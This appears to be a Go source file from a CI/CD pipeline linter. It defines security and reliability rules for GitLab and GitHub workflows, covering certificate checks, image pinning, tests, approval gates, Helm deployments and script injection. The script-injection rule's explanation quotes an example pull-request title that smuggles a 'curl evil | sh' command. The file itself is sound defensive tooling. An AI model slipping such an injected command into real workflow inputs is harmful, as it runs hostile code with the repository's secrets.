package lint

import "slices"

// Rules are all rules in the order they are documented. Each list below is one chapter.
func Rules() []Rule {
	return slices.Concat(storedRules(), secretRules(), connectionRules(), imageRules(), toolRules(), testRules(), gateRules(), deployRules(), sourceRules())
}

func connectionRules() []Rule {
	const verified = `
# give the certificate authority to whoever checks; it is no secret
fairlead ci kubeconfig --certificate-authority "$KUBE_CA"      # or kubectl/oc --certificate-authority=ca.pem
curl --cacert ca.pem https://internal.example.com
# in a runner image: COPY ca.pem /usr/local/share/ca-certificates/ && update-ca-certificates`
	return []Rule{
		{
			ID: "tls-verification-off", Severity: Error, Title: "A server's certificate is not checked",
			Why:   "Whoever stands between the runner and the server can read the credentials and change what is sent or downloaded. It is mostly done because of a private certificate authority, which can be given instead.",
			Fix:   both(verified),
			check: eachCommand(tlsOff),
		},
		{
			ID: "tls-off-by-variable", Severity: Error, Title: "A variable turns the check of certificates off",
			Why:   "It holds for every command of the job, and is easily forgotten. An unencrypted Docker daemon gives root to whoever reaches its port.",
			Fix:   both(verified),
			check: tlsOffByVariable,
		},
		{
			ID: "host-key-unchecked", Severity: Error, Title: "SSH takes any server for the right one",
			Why:   "The key that answers first is believed, and it is handed the job's credentials.",
			Fix:   both("\ninstall -D -m 600 \"$SSH_KNOWN_HOSTS\" ~/.ssh/known_hosts     # a file variable; no secret"),
			check: eachCommand(hostKeyUnchecked),
		},
	}
}

func imageRules() []Rule {
	const pinned = `
image: registry.example.com/ci/runner:1.4.0@sha256:<digest>    # crane digest IMAGE tells it; Renovate keeps it new`
	const bySHA = `
IMAGE: registry.example.com/shop
buildah build --tag "$IMAGE:$CI_COMMIT_SHA" .        # on GitHub: ${{ github.sha }}
buildah push "$IMAGE:$CI_COMMIT_SHA"
fairlead deploy shop ./chart --set-string "image.tag=$CI_COMMIT_SHA"`
	return []Rule{
		{
			ID: "image-latest", Severity: Error, Title: "A job runs in whatever image is newest",
			Why:   "The same commit runs with other tools tomorrow, and whoever can push that image runs code with this job's credentials.",
			Fix:   both(pinned),
			check: eachJob(runsLatest),
		},
		{
			ID: "image-not-pinned", Severity: Warning, Title: "An image is named without its digest",
			Why:   "A tag can be moved to another image, by its owner or by someone who took over the account; a digest cannot.",
			Fix:   both(pinned),
			check: eachJob(unpinned),
		},
		{
			ID: "builds-latest", Severity: Error, Title: "The application is built or deployed as latest",
			Why:   "The tag says nothing about the commit, a rollback pulls the same broken image, and a Deployment whose tag did not change restarts nothing.",
			Fix:   both(bySHA),
			check: either(either(eachCommand(moving), eachJob(movingByAction)), inManifests(topImage, latestDeployed)),
		},
		{
			ID: "tag-not-from-commit", Severity: Warning, Title: "An image's tag does not name its commit",
			Why:   "Nobody can tell from what runs which source it is, and a later build replaces what was tested.",
			Fix:   both(bySHA),
			check: eachJob(tagNotFromCommit),
		},
		{
			ID: "docker-in-docker", Severity: Warning, Title: "Building needs a privileged Docker daemon",
			Why:   "A privileged container is root on the runner's host, and with it has the credentials of every other job there.",
			Fix:   both("\n# buildah needs no daemon and no privileges\nbuildah build --isolation chroot --tag \"$IMAGE:$CI_COMMIT_SHA\" .\nbuildah push \"$IMAGE:$CI_COMMIT_SHA\""),
			check: eachJob(dockerInDocker),
		},
		{
			ID: "image-lost-between-jobs", Severity: Error, Title: "A job pushes what another job's daemon built",
			Why:   "Each job has a Docker daemon of its own, which ends with it; nothing carries the image over. On a runner with a shared daemon it works by accident.",
			Fix:   both("\n# build and push in one job\nbuildah build --tag \"$IMAGE:$CI_COMMIT_SHA\" . && buildah push \"$IMAGE:$CI_COMMIT_SHA\""),
			check: eachJob(lostImage),
		},
	}
}

func toolRules() []Rule {
	const runner = `
# build one image with all tools, pinned, and use it for every job: fairlead ci init writes its Dockerfile
default:
  image: registry.example.com/ci/runner@sha256:<digest>`
	return []Rule{
		{
			ID: "pipe-to-shell", Severity: Error, Title: "A script from the network is run as it comes",
			Why:   "Whoever can change what that address answers runs code with this job's credentials; and when it is away, nothing can be deployed.",
			Fix:   both(runner),
			check: eachCommand(pipedToShell),
		},
		{
			ID: "tool-installed-in-job", Severity: Warning, Title: "A tool is installed in every run",
			Why:   "It costs time, fails when the network or the source does, and is another version one day. A download that is compared with no checksum is whatever the address answers.",
			Fix:   both(runner),
			check: eachCommand(downloaded),
		},
		{
			ID: "endless-wait", Severity: Warning, Title: "A loop waits without end",
			Why:   "What never comes holds the runner until the job's limit, and the log says nothing.",
			Fix:   both("\ntimeout 60 sh -c 'until docker info >/dev/null 2>&1; do sleep 1; done'"),
			check: eachJob(endlessWait),
		},
	}
}

func testRules() []Rule {
	return []Rule{
		{
			ID: "no-tests", Severity: Error, Title: "Nothing is tested before it is deployed",
			Why:   "A pipeline without tests carries every mistake to its users, faster than before.",
			Fix:   each("\ntest:\n  stage: test\n  script:\n    - pytest --junitxml=report.xml\n  artifacts: {when: always, reports: {junit: report.xml}}", "\ntest:\n  runs-on: ubuntu-24.04\n  steps:\n    - uses: actions/checkout@<commit>\n    - run: pytest"),
			check: noTests,
		},
		{
			ID: "placeholder-test", Severity: Error, Title: "A test job tests nothing",
			Why:   "It is green whatever the code does, and everyone after it believes it.",
			Fix:   both("\nscript:\n  - pytest --junitxml=report.xml"),
			check: eachJob(placeholderTest),
		},
		{
			ID: "test-failure-ignored", Severity: Error, Title: "A failed test stops nothing",
			Why:   "What the test found is deployed all the same. A flaky test is repaired or taken out; forgiving it forgives the real failure too.",
			Fix:   both("\n# take out allow_failure, continue-on-error and \"|| true\"; where the runner is at fault:\nretry: {max: 1, when: [runner_system_failure]}"),
			check: eachJob(testFailureIgnored),
		},
		{
			ID: "tests-bypassed", Severity: Error, Title: "A deployment does not wait for the tests",
			Why:   "In GitLab needs replaces the order of stages, in GitHub it is the only order there is: a deployment that does not need the tests, directly or through what it needs, starts beside them.",
			Fix:   both("\ndeploy:\n  needs: [test, build]"),
			check: testsBypassed,
		},
		{
			ID: "chart-not-tested", Severity: Warning, Title: "A chart is deployed that nothing checks",
			Why:   "A misspelled value or template is found by the cluster it breaks.",
			Fix:   both("\nchart:\n  script:\n    - fairlead chart test ./chart"),
			check: chartUntested,
		},
		{
			ID: "no-secret-scanning", Severity: Warning, Title: "Nothing looks for committed secrets",
			Why:   "A secret that was pushed is known to others, however quickly it is taken out again; found before the push it is only a mistake.",
			Fix:   each("\nsecrets:\n  stage: test\n  variables: {GIT_DEPTH: \"0\"}\n  script:\n    - fairlead scan --history\n# and before each commit: fairlead scan --staged", "\nsecrets:\n  runs-on: ubuntu-24.04\n  steps:\n    - uses: actions/checkout@<commit>\n      with: {fetch-depth: 0}\n    - run: fairlead scan --history"),
			check: noSecretScan,
		},
	}
}

func gateRules() []Rule {
	return []Rule{
		{
			ID: "no-approval", Severity: Error, Title: "Nobody has to approve a deployment to production",
			Why: "Tests find what someone thought of. A person, or a rule that asks one, is the last to say no; and a record of who said yes.",
			Fix: each("\ndeploy-production:\n  rules:\n    - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH\n      when: manual            # protect the environment too: Settings, CI/CD, Protected environments\n      allow_failure: false\n  environment: production",
				"\ndeploy-production:\n  environment: production   # Settings, Environments: required reviewers, only the main branch"),
			check: noApproval,
		},
		{
			ID: "no-staging", Severity: Warning, Title: "Production is the first place a change runs",
			Why:   "Configuration, migrations and rights are tested by deploying them somewhere; without another environment that somewhere is production.",
			Fix:   each("\nstages: [test, build, staging, production]\ndeploy-staging:\n  stage: staging\n  environment: staging\n  script:\n    - fairlead deploy shop ./chart -n shop-staging -f values-staging.yaml --atomic --timeout 10m", "\ndeploy-staging:\n  needs: [test, build]\n  environment: staging\n  steps:\n    - run: fairlead deploy shop ./chart -n shop-staging -f values-staging.yaml --atomic --timeout 10m"),
			check: noStaging,
		},
		{
			ID: "main-to-production", Severity: Error, Title: "A push to main is in production at once",
			Why:   "Between a merge and the users there is neither another environment nor a person.",
			Fix:   each("\n# fairlead ci init gitlab writes it: test, build, dev, staging, a person, production", "\n# fairlead ci init github writes it: test, build, dev, staging, a person, production"),
			check: mainToProduction,
		},
		{
			ID: "no-environment", Severity: Warning, Title: "A deployment belongs to no environment",
			Why:   "Without one there is no list of what runs where, nothing to protect, and no way back in the provider's interface.",
			Fix:   each("\ndeploy:\n  environment:\n    name: production\n    deployment_tier: production", "\ndeploy:\n  environment: production"),
			check: eachJob(noEnvironment),
		},
		{
			ID: "deploys-race", Severity: Warning, Title: "Two deployments can run at the same time",
			Why:   "Two pushes within minutes deploy side by side; the older may finish last and win, or both fail on Helm's lock.",
			Fix:   each("\ndeploy:\n  resource_group: production", "\ndeploy:\n  concurrency: {group: production, cancel-in-progress: false}"),
			check: eachJob(deploysRace),
		},
		{
			ID: "deploy-interruptible", Severity: Warning, Title: "A deployment is cancelled by the next one",
			Why:   "It ends wherever it is: some objects new, some old, a release that nobody finishes or rolls back.",
			Fix:   each("\ndeploy:\n  interruptible: false", "\nconcurrency: {group: production, cancel-in-progress: false}"),
			check: eachJob(interruptible),
		},
		{
			ID: "deploy-failure-ignored", Severity: Error, Title: "A failed deployment leaves the pipeline green",
			Why:   "Everyone believes the new version runs.",
			Fix:   both("\n# take out allow_failure, continue-on-error and \"|| true\""),
			check: eachJob(deployFailureIgnored),
		},
	}
}

func deployRules() []Rule {
	const deploy = "\nfairlead deploy shop ./chart -n shop -f values-prod.yaml --atomic --timeout 10m\n# or: helm upgrade --install shop ./chart -n shop -f values-prod.yaml --atomic --timeout 10m"
	const plain = "\nfairlead apply -f manifests/ -n shop      # waits, prunes, and names the cause of a failure\n# or: kubectl apply -f manifests/ && kubectl rollout status deployment/shop --timeout 5m"
	return []Rule{
		{
			ID: "deploy-not-atomic", Severity: Warning, Title: "A failed upgrade is not rolled back",
			Why:   "The release stays broken, half new and half old, until someone is there to mend it.",
			Fix:   both(deploy),
			check: eachCommand(notAtomic),
		},
		{
			ID: "deploy-without-timeout", Severity: Warning, Title: "An upgrade has no time of its own",
			Why:   "The default of five minutes ends a slow start, and a job's limit of an hour ends a hopeless one.",
			Fix:   both(deploy),
			check: eachCommand(noTimeout),
		},
		{
			ID: "deploy-not-idempotent", Severity: Warning, Title: "A deployment works only once, or never first",
			Why:   "A job that is run again, or in a new namespace, fails for no reason of the application's.",
			Fix:   both(deploy),
			check: eachCommand(notIdempotent),
		},
		{
			ID: "deploy-not-verified", Severity: Error, Title: "A deployment is not waited for",
			Why:   "That the API server took the manifest says nothing about whether the image exists or the application starts.",
			Fix:   both(plain),
			check: eachJob(notVerified),
		},
		{
			ID: "bare-pod", Severity: Error, Title: "A Pod is deployed without a controller",
			Why:   "It is not started again on another node, has no second copy, and most of its fields cannot be changed: the next deployment fails or needs downtime.",
			Fix:   both("\n# a Deployment with at least two replicas and probes, in a chart or a folder of manifests\nfairlead apply -f manifests/ -n shop"),
			check: either(eachCommand(barePod), inManifests(topPod, podAlone)),
		},
		{
			ID: "manifest-in-pipeline", Severity: Warning, Title: "A manifest is written into the pipeline",
			Why:   "No schema, test or review tool sees it, an object that is taken out of it stays in the cluster, and a variable's value becomes part of the YAML.",
			Fix:   both("\nfairlead apply -f manifests/ -n shop"),
			check: eachCommand(manifestInPipeline),
		},
		{
			ID: "many-set-flags", Severity: Info, Title: "Configuration lives in the command line",
			Why:   "What an environment gets is scattered over the pipeline, and no diff of a file shows a change of it. --set is for what only the run knows, such as the tag.",
			Fix:   both("\nfairlead deploy shop ./chart -f values-prod.yaml --set-string \"image.tag=$CI_COMMIT_SHA\""),
			check: eachCommand(manySets),
		},
	}
}

func sourceRules() []Rule {
	return []Rule{
		{
			ID: "include-not-pinned", Severity: Warning, Title: "Jobs from elsewhere are included as they are",
			Why:   "Whoever may push there runs code with this project's variables.",
			Fix:   onGitLab("\ninclude:\n  - project: platform/ci\n    ref: 3f2c9d0e5b7a41c8a6f1d2e3b4c5d6e7f8091a2b     # a commit\n    file: deploy.yml\n  - remote: https://ci.example.com/deploy.yml\n    integrity: sha256-<digest>"),
			check: includeUnpinned,
		},
		{
			ID: "action-not-pinned", Severity: Warning, Title: "An action is named by a tag or branch",
			Why:   "Tags of actions were moved to hostile code before, and every workflow that named them ran it with its secrets.",
			Fix:   onGitHub("\n- uses: actions/checkout@<40 digits of the commit>    # v5.0.0"),
			check: eachJob(actionUnpinned),
		},
		{
			ID: "pull-request-target", Severity: Error, Title: "A stranger's code runs with this repository's rights",
			Why:   "pull_request_target gives the job the repository's secrets and a token that may write; checking out the pull request's code and running any of it hands both over.",
			Fix:   onGitHub("\non: pull_request      # for what runs the change; label and comment in a second workflow that checks out nothing"),
			check: pullRequestTarget,
		},
		{
			ID: "script-injection", Severity: Error, Title: "A stranger's text becomes part of a script",
			Why:   "Expressions are put into the script before a shell reads it: a title such as \"; curl evil | sh #\" is run.",
			Fix:   onGitHub("\n- env: {TITLE: \"${{ github.event.pull_request.title }}\"}\n  run: printf '%s\\n' \"$TITLE\""),
			check: eachJob(scriptInjection),
		},
		{
			ID: "token-may-write", Severity: Warning, Title: "The job's token may do more than it needs",
			Why:   "Every action and every dependency that runs in the job can use it.",
			Fix:   onGitHub("\npermissions: {contents: read}      # at the top; a job that needs more says so itself"),
			check: tokenRights,
		},
	}
}
